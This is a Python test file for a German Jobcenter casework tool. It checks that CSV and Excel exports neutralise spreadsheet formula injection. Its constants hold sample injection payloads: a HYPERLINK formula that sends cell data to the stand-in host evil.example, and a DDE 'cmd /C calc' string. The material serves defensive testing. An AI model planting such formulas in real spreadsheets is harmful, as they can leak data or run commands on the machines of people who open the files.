"""Formula injection (issue 12, point 1): no text cell of any CSV or Excel export starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return (OWASP CSV injection rule), and the payload stays
readable behind the leading ``'``.

The dataset: the first 3,000 persons of the generated Siegen-Wittgenstein dataset (with their
households, payments and every other table), whose caseworker names, teams, municipality names,
provider names and the Jobcenter's name carry formula payloads; the agreement's goal titles, party
names and link reason carry them too. Every work list is exported as German CSV, canonical CSV and
Excel through the CLI (``zielwerk liste``) and the web download routes; the monthly report as
Excel; the indicator tables through ``zielwerk kennzahlen``/``zielwerk lzb`` and the web downloads.
"""

from __future__ import annotations

import csv
import io
import re
import sys
from pathlib import Path

import pyarrow as pa
import pyarrow.compute as pc
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

sys.path.insert(0, str(Path(__file__).parent / "web"))

from web_helpers import AGREEMENT_TOML, KZ_SCHEMA, login, write_fixture_results

from zielwerk.casework.catalog import LISTS
from zielwerk.domain.cells import neutralise

pytestmark = pytest.mark.slow

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A2,"Akte")'
TEAM = "+Team Nord"
PROVIDER = "@SUMME(1+1)*cmd|' /C calc'!A0"
JOBCENTER = "-1+1 Jobcenter"
MUNI = ["=1+1 Gemeinde", "+Gemeinde", "-Gemeinde", "@Gemeinde", "\tGemeinde", "\rGemeinde"]
GOAL = '=HYPERLINK("http://evil.example/?z="&B3,"Ziel")'
STICHTAG = "2017-12-15"
#: German CSV numbers are text in the file; a negative number (``-1,5``, ``-1.234``) is a number
NUMBER = re.compile(r"^-\d[\d.,]*(e[+-]?\d+)?$")


def _payload_dataset(src: Path, n_persons: int = 3000):
    """The first ``n_persons`` of the Siegen dataset with formula payloads in the named text fields."""
    from zielwerk.data.dataset import Dataset
    from zielwerk.data.reader import load_dataset

    ds = load_dataset(src, file_backed=False)
    pids = ds["persons"].slice(0, n_persons)["person_id"]
    tabs = {}
    for name in ds.present:
        t = ds[name]
        if "person_id" in t.column_names:
            t = t.filter(pc.is_in(t["person_id"], pids))
        tabs[name] = t
    bgs = pc.unique(tabs["elb_spells"]["bg_id"])
    for name in ("households", "payments"):
        tabs[name] = ds[name].filter(pc.is_in(ds[name]["bg_id"], bgs))

    def put(name: str, column: str, values: list[str]):
        t = tabs[name]
        arr = pa.array([values[i % len(values)] for i in range(t.num_rows)], t.schema.field(column).type)
        tabs[name] = t.set_column(t.column_names.index(column), column, arr)

    put("caseworkers", "name", [HYPERLINK])
    put("caseworkers", "team", [TEAM, "-Team Süd"])
    put("municipalities", "name", MUNI)
    put("childcare_providers", "name", [PROVIDER, "\rKita"])
    put("jobcenters", "name", [JOBCENTER])
    return Dataset.from_tables(tabs, as_of=ds.as_of, stichtag_day=ds.stichtag_day)


def _agreement_toml() -> str:
    toml = AGREEMENT_TOML.replace('titel = "Integration verbessern"', f"titel = '{GOAL}'")
    toml = toml.replace('titel = "Langzeitbezug vermeiden"', 'titel = "@Langzeitbezug vermeiden"')
    toml = toml.replace('kreis = "Kreis Test"', 'kreis = "+Kreis Test"')
    toml = toml.replace('begruendung = "Wer', 'begruendung = "-Wer')
    assert toml.count("evil.example") == 1
    return toml


@pytest.fixture(scope="module")
def payload_ds(siegen_dir):
    return _payload_dataset(siegen_dir)


@pytest.fixture(scope="module")
def data_folder(payload_ds, tmp_path_factory):
    out = tmp_path_factory.mktemp("payload-data")
    payload_ds.write(out, "parquet")  # parquet: the CLI reads it faster
    return out


@pytest.fixture(scope="module")
def web(payload_ds, tmp_path_factory):
    """A web app with the hand-made indicator results of tests/web, the payload dataset's work lists,
    the agreement with payload titles and a controlling user (JC1)."""
    from fastapi.testclient import TestClient

    from zielwerk.casework.batch import write_lists
    from zielwerk.store import agreements
    from zielwerk.store.models import User
    from zielwerk.store.users import hash_password
    from zielwerk.web import WebConfig, create_app
    from zielwerk.web.results import lists_dir

    data_dir = tmp_path_factory.mktemp("payload-web")
    write_fixture_results(data_dir)
    meta = write_lists(payload_ds, lists_dir(data_dir), outcome_months=0)
    app = create_app(WebConfig(data_dir=data_dir))
    with app.state.sessions.begin() as s:
        s.add(User(username="controlling", full_name="Controlling", password_hash=hash_password("Passwort-123"),
                   role="controlling", jobcenter_id="JC1"))
        agreements.create(s, key="testkreis-2016", title="=Zielvereinbarung 2016", jobcenter_id="JC1", year=2016,
                          document=_agreement_toml(), created_by="controlling")
    c = TestClient(app, base_url="https://testserver")
    assert login(c, "controlling", "Passwort-123").status_code == 303
    yield c, meta
    c.close()
    app.state.engine.dispose()


# --- reading the files back --------------------------------------------------------------------------


def _xlsx_text_cells(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    out.append(cell.value)
    return out


def _csv_text_cells(data: bytes, delimiter: str) -> list[str]:
    text = data.decode("utf-8-sig")
    return [v for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for v in row]


def _check(cells: list[str], where: str) -> set[str]:
    """Assert no live formula text; return the payloads found (without their quote)."""
    bad = [v for v in cells if v.startswith(TRIGGERS) and not NUMBER.match(v)]
    assert bad == [], f"{where}: {bad[:5]}"
    return {v[1:] for v in cells if v.startswith("'") and v[1:].startswith(TRIGGERS)}


def _check_file(data: bytes, suffix: str, where: str, delimiter: str = ";") -> set[str]:
    cells = _xlsx_text_cells(data) if suffix == ".xlsx" else _csv_text_cells(data, delimiter)
    return _check(cells, where)


def _payload_in(found: set[str], payload: str) -> bool:
    """``payload`` (or, in German CSV lists, a combined cell such as "Team · name") is readable."""
    return any(payload in v for v in found)


# --- the unit: the one function --------------------------------------------------------------------


def test_neutralise_quotes_exactly_the_triggers():
    for t in TRIGGERS:
        assert neutralise(t + "x") == "'" + t + "x"
    for v in ("Akte", "'=quoted", " =x", "", "Müller-Lüdenscheidt", "1+1"):
        assert neutralise(v) == v
    for v in (-1, -2.5, None, True):
        assert neutralise(v) is v


# --- work lists: CLI -------------------------------------------------------------------------------


def test_every_work_list_through_the_cli(data_folder, tmp_path):
    from zielwerk.cli import app

    runner = CliRunner()
    found: set[str] = set()
    for name in LISTS:
        for suffix, fmt in ((".xlsx", "de"), (".csv", "de"), (".csv", "kanonisch")):
            out = tmp_path / f"{name}-{fmt}{suffix}"
            records = ["--synthetische-fallakten"] if LISTS[name].needs_records else []
            r = runner.invoke(app, ["liste", name, "--data", str(data_folder), "--stichtag", STICHTAG,
                                    "--out", str(out), "--format", fmt, "--ohne-zielstand", *records])
            assert r.exit_code == 0, (name, fmt, r.output)
            found |= _check_file(out.read_bytes(), suffix, f"CLI {name} {fmt}{suffix}",
                                 "," if fmt == "kanonisch" else ";")
        if name == "lzb-ohne-massnahme":
            assert _payload_in(found, HYPERLINK), found
    for payload in (HYPERLINK, TEAM, PROVIDER, MUNI[0], "\rKita"):
        assert _payload_in(found, payload), (payload, found)


# --- work lists: web -------------------------------------------------------------------------------


def test_every_work_list_through_the_web(web):
    c, meta = web
    found: set[str] = set()
    nonempty = [n for n, m in meta["lists"].items() if m["rows"]]
    assert len(nonempty) >= 10, meta["lists"]
    for name in LISTS:
        for path, suffix, delim in ((f"/fallsteuerung/listen/{name}/download.xlsx", ".xlsx", ";"),
                                    (f"/fallsteuerung/listen/{name}/download.csv", ".csv", ";"),
                                    (f"/fallsteuerung/listen/{name}/download.csv?format=kanonisch", ".csv", ",")):
            r = c.get(path)
            assert r.status_code == 200, (path, r.text[:300])
            got = _check_file(r.content, suffix, path, delim)
            found |= got
            if name == "lzb-ohne-massnahme" and suffix == ".xlsx":
                assert HYPERLINK in got
    for payload in (HYPERLINK, TEAM, PROVIDER, MUNI[0], "\rKita"):
        assert _payload_in(found, payload), (payload, found)


# --- report and indicators -------------------------------------------------------------------------


def test_report_excel_has_no_formula_cells(web):
    c, _ = web
    r = c.get("/berichte/2016-09?format=xlsx")
    assert r.status_code == 200, r.text[:300]
    found = _check_file(r.content, ".xlsx", "report")
    assert GOAL in found and "@Langzeitbezug vermeiden" in found, found


def test_indicator_downloads_in_the_web(web):
    c, _ = web
    for unit in ("jobcenter:JC1", "municipality:05970040"):
        for fmt in ("csv", "xlsx"):
            r = c.get(f"/kennzahlen/download.{fmt}?k=K3&einheit={unit}")
            assert r.status_code == 200, r.text[:300]
            cells = _check_file(r.content, "." + fmt, f"kennzahlen {unit} {fmt}")
            assert cells == set()
    # K3 values are negative: the German CSV keeps them as numbers, the workbook as number cells
    r = c.get("/kennzahlen/download.xlsx?k=K3&einheit=jobcenter:JC1")
    ws = load_workbook(io.BytesIO(r.content)).active
    assert any(isinstance(row[7], float) and row[7] < 0 for row in ws.iter_rows(min_row=2, values_only=True))


def test_indicator_files_through_the_cli(data_folder, tmp_path):
    from zielwerk.cli import app

    runner = CliRunner()
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"kz{suffix}"
        r = runner.invoke(app, ["kennzahlen", "--data", str(data_folder), "--from", "2017-11", "--to", "2017-12",
                                "--out", str(out)])
        assert r.exit_code == 0, r.output
        _check_file(out.read_bytes(), suffix, f"kennzahlen{suffix}", ",")
        out = tmp_path / f"lzb{suffix}"
        r = runner.invoke(app, ["lzb", "--data", str(data_folder), "--stichtag", STICHTAG, "--out", str(out)])
        assert r.exit_code == 0, r.output
        _check_file(out.read_bytes(), suffix, f"lzb{suffix}", ",")


def test_indicator_writer_neutralises_text_ids(tmp_path):
    """The indicator writer itself: a unit id carrying a payload is quoted, numbers stay numbers."""
    from zielwerk.indicators.output import write_table

    row = {"unit_type": "municipality", "unit_id": "=1+1", "month": "2016-01", "indicator": "K3", "sex": "all",
           "numerator": 9.0, "denominator": 10.0, "value": -10.0, "provisional": False}
    tbl = pa.Table.from_pylist([row], schema=KZ_SCHEMA)
    for suffix in (".csv", ".xlsx"):
        out = tmp_path / f"kz{suffix}"
        write_table(tbl, out)
        assert _check_file(out.read_bytes(), suffix, suffix, ",") == {"=1+1"}
    ws = load_workbook(tmp_path / "kz.xlsx").active
    assert ws.cell(row=2, column=9).value == -10.0
    assert "-10" in (tmp_path / "kz.csv").read_text("utf-8").splitlines()[1].split(",")
